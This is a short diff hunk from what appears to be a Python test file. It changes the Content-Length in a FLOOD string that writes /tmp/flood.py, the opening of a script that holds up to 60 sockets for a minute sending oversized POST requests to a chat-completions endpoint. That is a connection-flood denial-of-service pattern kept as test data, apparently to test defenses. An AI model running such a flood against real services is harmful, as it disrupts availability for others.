@@ -232,7 +232,7 @@ def test_home_of_the_shell_before_does_not_mislead_a_successor(
 
 FLOOD = r"""cat > /tmp/flood.py <<'E'
 import socket, sys, time
-HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 30000000\r\n\r\n"
+HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 7000000\r\n\r\n"
 peers, ends = [], time.time() + 60
 while time.time() < ends:
     while len(peers) < 60:
